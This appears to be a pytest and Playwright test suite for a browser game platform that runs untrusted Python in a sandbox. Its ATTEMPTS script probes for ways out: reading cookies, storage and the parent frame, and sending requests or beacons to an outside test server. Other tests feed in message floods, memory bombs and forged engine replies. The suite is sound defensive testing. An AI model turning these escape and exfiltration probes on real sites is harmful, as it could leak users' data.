"""A hostile program finds no storage, no net, no origin and no way out of the frame that it runs in."""

from __future__ import annotations

import hashlib
import json
import threading
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from pygame_core.testing import Table
from tests.e2e.serving import Host
from tests.e2e.table import OFFLINE, Until, drop, poll
from tests.e2e.workbench import CHANCE, COUNT_SIGNS, SMALL, bring, enter, open_console, open_lab, press
from tests.minigame import MINI, wheel

# What a program tries, each way by the browser's own means; what it comes to is printed.
ATTEMPTS = '''
import asyncio, js
from pyodide.ffi import create_once_callable, to_js

OUTSIDE, SITE = "{outside}", "{site}"
told = {{}}


def attempt(name, act):
    try:
        told[name] = "YES " + str(act())[:80]
    except BaseException as error:
        told[name] = "no " + type(error).__name__


def options(**given):
    return to_js(given, dict_converter=js.Object.fromEntries)


CODE = "fetch('%s/nested', {{mode: 'no-cors'}}).catch(() => {{}})" % OUTSIDE


def nested():
    url = js.URL.createObjectURL(js.Blob.new(to_js([CODE]), options(type="text/javascript")))
    js.Worker.new(url)


attempt("eval", lambda: js.eval("1 + 1"))
attempt("function", lambda: js.Function.new("return 1")())
attempt("indexedDB", lambda: js.indexedDB.open("hexarium").readyState)
attempt("caches", lambda: js.caches.keys)
attempt("localStorage", lambda: js.localStorage.length)
attempt("cookies", lambda: js.document.cookie)
attempt("parent", lambda: js.parent.document)
attempt("importScripts", lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, OUTSIDE + "/script"))
attempt("fetch", lambda: js.fetch(OUTSIDE + "/fetch"))
attempt("no-cors", lambda: js.fetch(OUTSIDE + "/no-cors", options(mode="no-cors")))
attempt("beacon", lambda: js.navigator.sendBeacon(OUTSIDE + "/beacon", "x"))
attempt("site", lambda: js.fetch(SITE + "index.html"))
attempt("xhr", lambda: (lambda x: (x.open("GET", OUTSIDE + "/xhr", False), x.send()))(js.XMLHttpRequest.new()))
attempt("socket", lambda: js.WebSocket.new(OUTSIDE.replace("http", "ws") + "/socket").readyState)
attempt("events", lambda: js.EventSource.new(OUTSIDE + "/events").readyState)
attempt("nested", nested)


async def later():
    """What only a promise tells."""
    import pyodide.http

    ways = {{
        "fetch, awaited": lambda: pyodide.http.pyfetch(OUTSIDE + "/later"),
        "site, awaited": lambda: pyodide.http.pyfetch(SITE + "index.html"),
        "import, awaited": lambda: pyodide.code.run_js("1"),
        "caches, awaited": lambda: js.caches.open("x"),
        "files, awaited": lambda: js.navigator.storage.getDirectory(),
    }}
    for name, way in ways.items():
        try:
            told[name] = "YES " + str(await asyncio.wait_for(waited(way), 5))[:80]
        except BaseException as error:
            told[name] = "no " + type(error).__name__
    try:
        request = js.indexedDB.open("hexarium")
        request.onsuccess = create_once_callable(lambda _: told.update({{"database, awaited": "YES"}}))
        request.onerror = create_once_callable(lambda _: told.update({{"database, awaited": "no"}}))
    except BaseException as error:
        told["database, awaited"] = "no " + type(error).__name__
    for _ in range(50):
        if "database, awaited" not in told:
            await asyncio.sleep(0.1)
    told.setdefault("database, awaited", "no answer")


async def waited(way):
    return await way()


def begin():
    try:
        asyncio.ensure_future(later())
    except BaseException as error:
        told["database, awaited"] = "no " + type(error).__name__


attempt("begun", begin)
'''

# It tells the page when all has come to something, by an answer to what nobody has asked.
TELLING = """
import json


async def tell():
    while "database, awaited" not in told:
        await asyncio.sleep(0.05)
    told["origin"] = js.self.origin
    js.self.postMessage(json.dumps({"id": "attempts", "ok": told}))


asyncio.ensure_future(tell())
"""
PROGRAM = f"""{TELLING}

{CHANCE}
"""
# What a wheel says in the engine's stead.
SAYING = """
import js
import json


def say(**message):
    js.self.postMessage(json.dumps(message, separators=(",", ":")))


"""
READY = "say(event='ready', left={'forged': 1}, judged=[], times={}, way='image', failed=[])\n"
FORGED = "say(event='ready', left={'forged': 1}, judged=7)\nGAME = 1\n"
FLOOD = "for _ in range(2000):\n    say(event='alive')\nGAME = 1\n"
LARGE = "for _ in range(3):\n    js.self.postMessage(js.ArrayBuffer.new(20_000_000))\nGAME = 1\n"
LISTEN = """addEventListener("message", ({ data }) => {
  if (String(data).startsWith('{"id": "attempts"')) window.attempted = JSON.parse(data).ok;
});"""

# Where the outcome tells. Of the others the server outside does, of which nothing may be asked.
REFUSED = (
    "eval", "function", "nested", "localStorage", "cookies", "parent", "importScripts", "beacon", "xhr",
    "fetch, awaited", "site, awaited", "import, awaited", "files, awaited", "database, awaited",
)  # fmt: skip


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(params=["browser", "firefox"])
def bare(request: pytest.FixtureRequest) -> Iterator[BrowserContext]:
    """Without a guard: that browsers complain is what is wanted."""
    browser: Browser = request.getfixturevalue(request.param)
    context = browser.new_context()
    yield context
    context.close()


def visit(context: BrowserContext, host: Host, until: Until) -> Page:
    """A page there that has all stored, and hears what is told of the attempts."""
    page = context.new_page()
    page.add_init_script(LISTEN)
    Table(page, host.url).open(SMALL)
    until(page, OFFLINE)
    return page


def attempts(outside: tuple[str, list[str]], host: Host) -> str:
    return ATTEMPTS.format(outside=outside[0], site=host.url)


def offer(page: Page, *wheels: Any) -> None:
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Add a wheel…").click()
    chooser.value.set_files(list(wheels))


def refused(told: dict[str, str], whose: str) -> None:
    assert told.get("origin", "null") == "null", whose
    for way in REFUSED:
        assert told[way].startswith("no"), f"{whose}, {way}: {told[way]}"


def unheard(outside: tuple[str, list[str]]) -> None:
    """Nothing has come there, where all that is sent is heard."""
    address, asked = outside
    assert asked == []
    urllib.request.urlopen(f"{address}/control").close()
    assert asked == ["/control"]


def as_built(page: Page, host: Host, dist: Path) -> None:
    """Whatever the browser has of the site is what was built, from the host, for the page, and in all caches."""
    built = {path.relative_to(dist).as_posix(): sha256(path) for path in dist.rglob("*") if path.is_file()}
    found = page.evaluate(CONTENTS, [path for path in built if not path.startswith((".", "maps/"))])
    assert len(found["served"]) > 30 and len(found["stored"]) > 20 and not found["others"]
    prefix = host.url
    for address, hashed in [*found["served"], *found["stored"]]:
        assert hashed == built[address.removeprefix(prefix).partition("?")[0]], address


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# The SHA-256 of what is served for each path, and of all that caches hold but the mark that the Lab is wanted.
CONTENTS = """async (paths) => {
  const hash = async (answer) => {
    const bytes = new Uint8Array(await crypto.subtle.digest("SHA-256", await answer.arrayBuffer()));
    return Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
  };
  const served = await Promise.all(paths.map(async (path) => {
    const { href } = new URL(path, document.baseURI);
    return [href, await hash(await fetch(href))];
  }));
  const names = await caches.keys();
  const stored = [];
  for (const name of names) {
    const cache = await caches.open(name);
    for (const request of await cache.keys())
      if (!request.url.endsWith("lab?")) stored.push([request.url, await hash(await cache.match(request))]);
  }
  return { served, stored, others: names.filter((name) => !name.startsWith("hexarium ")) };
}"""


def test_nothing_gets_out_or_in(
    bare: BrowserContext, host: Host, outside: tuple[str, list[str]], dist: Path, until: Until
) -> None:
    """Of a program, of a typed line, and of a wheel that begins the next visit, too."""
    page = visit(bare, host, until)
    run_program(page, host, attempts(outside, host), until)
    type_lines(page, attempts(outside, host))
    add_and_remove_wheel(page, host, attempts(outside, host), until)
    unheard(outside)
    as_built(page, host, dist)


def run_program(page: Page, host: Host, attempted: str, until: Until) -> None:
    open_lab(page)
    bring(page, attempted + PROGRAM, "hostile")
    press(page, "Run against the level")
    refused(until(page, "window.attempted"), "a program")
    page.evaluate("delete window.attempted")
    Table(page, host.url).open(SMALL)


def type_lines(page: Page, attempted: str) -> None:
    open_console(page)
    page.keyboard.insert_text(attempted.strip())  # pasted
    enter(page, "")
    answers = page.get_by_role("log", name="Console").locator("pre")

    def ended() -> bool:
        enter(page, "'database, awaited' in told")
        return answers.last.inner_text() == "True"

    poll(page, ended)
    enter(page, "import json; print(json.dumps(told))")
    refused(json.loads(answers.last.inner_text()), "a typed line")


def add_and_remove_wheel(page: Page, host: Host, attempted: str, until: Until) -> None:
    page.locator("#home").click()
    offer(page, wheel("hostile", MINI + attempted + TELLING))
    refused(until(page, "window.attempted"), "a wheel")
    table = Table(page, host.url)
    table.open("game=mini&seats=human,human")  # it plays all the same
    table.play("e5")
    page.reload()  # and begins the next visit
    until(page, "window.attempted && document.documentElement.dataset.state === 'ready'")
    refused(page.evaluate("window.attempted"), "a wheel at the next visit")
    page.locator("#home").click()
    page.get_by_role("button", name="Remove: hostile").click()
    expect(page.get_by_role("log")).to_contain_text("“hostile” was removed.")
    page.reload()
    until(page, "document.documentElement.dataset.state === 'ready'")
    assert page.evaluate("window.attempted") is None
    assert "mini" not in page.evaluate("hexarium.request({op: 'games'}).then(({games}) => games.map(({key}) => key))")


def test_nothing_gets_out_of_a_wheel_in_webkit(
    webkit: Callable[[], Any], host: Host, outside: tuple[str, list[str]], until: Until
) -> None:
    with closing(webkit()) as opened:
        page = opened.page
        Table(page, host.url).open(SMALL)
        page.evaluate(f"(() => {{ {LISTEN} }})()")
        drop(page, wheel("hostile", MINI + attempts(outside, host) + TELLING))
        refused(until(page, "window.attempted"), "a wheel")
        Table(page, host.url).open("game=mini&seats=human,human")
        Table(page).play("e5")
    unheard(outside)


MARKS = """import builtins

FOUND = hasattr(builtins, "marked")
builtins.marked = True


def choose(position, turn):
    print("found", FOUND)
    return turn.random.choice(list(position.legal_moves()))
"""
CHOOSES = "import js\nimport time\n\n\ndef choose(position, turn):\n"
# What each does when it is to move, and what is told of it.
UNRULY = {
    "stops": ("    raise KeyboardInterrupt\n", "It raised KeyboardInterrupt"),
    "babbles": (
        """    while True:
        js.self.postMessage('{"id": 1, "partial": {}}')
        js.self.postMessage('{"event":"alive"}')
        time.sleep(0.01)
""",
        "did not answer within",
    ),
    "raves": ("    js.self.postMessage('no answer')\n", "something that is no answer."),
    "floods": ('    while True:\n        js.self.postMessage(\'{"event":"alive"}\')\n', "Python: It sent too much."),
    "devours": ("    return [0] * 2**30\n", "It raised MemoryError"),
}


def answered(page: Page, until: Until, moves: int) -> None:
    """The person plays, and so does the program."""
    table = Table(page)
    table.settle()
    table.play(next(move for move in table.legal() if move != "swap"))
    until(page, f"hexarium.current().moves.length === {moves} || hexarium.current().outcome")
    assert len(table.state().moves) == moves


def test_programs_and_console_find_nothing_of_each_other(page: Page, table: Table, until: Until) -> None:
    table.open(SMALL)
    for name in ("one", "two"):
        lab = open_lab(page)
        bring(page, MARKS, name)
        press(page, "Play it myself")
        answered(page, until, 2)
        open_lab(page)
        expect(lab.get_by_label("Printed")).to_contain_text("found False")
        lab.get_by_role("button", name="Back").click()
    open_console(page)
    enter(page, "hasattr(__import__('builtins'), 'marked')")
    expect(page.get_by_role("log", name="Console").locator(".result").last).to_have_text("False")


def test_an_unruly_program_is_ended_and_the_next_one_plays(page: Page, table: Table, until: Until) -> None:
    """The page counts seconds by a timer, whose time flies here."""
    page.clock.install()
    page.add_init_script(COUNT_SIGNS)
    for name, (does, told) in UNRULY.items():
        table.open(SMALL)
        open_lab(page)
        bring(page, CHOOSES + does, name)
        press(page, "Run against the level")
        if name == "babbles":
            until(page, f"self.signs > {page.evaluate('self.signs')} + 20")
            page.clock.run_for(20_000)
        until(page, "document.documentElement.dataset.state === 'over'")
        expect(page.get_by_role("status").first).to_contain_text(told)
        assert page.locator("iframe").count() == int(name == "stops"), name
    open_lab(page)
    bring(page, CHANCE, "next")
    press(page, "Play it myself")
    answered(page, until, 2)


def test_a_wheel_cannot_leave_anything_to_the_next_python(page: Page, table: Table, until: Until) -> None:
    """What a worker leaves for the next would run with all rights if it were taken from a frame."""
    table.open(SMALL)
    page.locator("#home").click()
    for name, source, sentence in (
        ("forging", MINI + READY, "Added: Mini Noose."),
        ("feigning", FORGED, "returned invalid data, so nothing was changed."),
        ("flooding", FLOOD, "stopped when it looked at this, so nothing was changed."),
        ("heaping", LARGE, "stopped when it looked at this, so nothing was changed."),
    ):
        offer(page, wheel(name, SAYING + source))
        expect(page.get_by_role("log")).to_contain_text(sentence)
        for close in reversed(page.locator(".toast > :last-child").all()):
            close.click()
    page.get_by_role("button", name="Remove: forging").click()
    expect(page.get_by_role("log")).to_contain_text("“forging” was removed.")
    assert page.evaluate("performance.getEntriesByName('python').at(-1).detail.way") == "image"
    table.open(SMALL)
    table.play("e5")
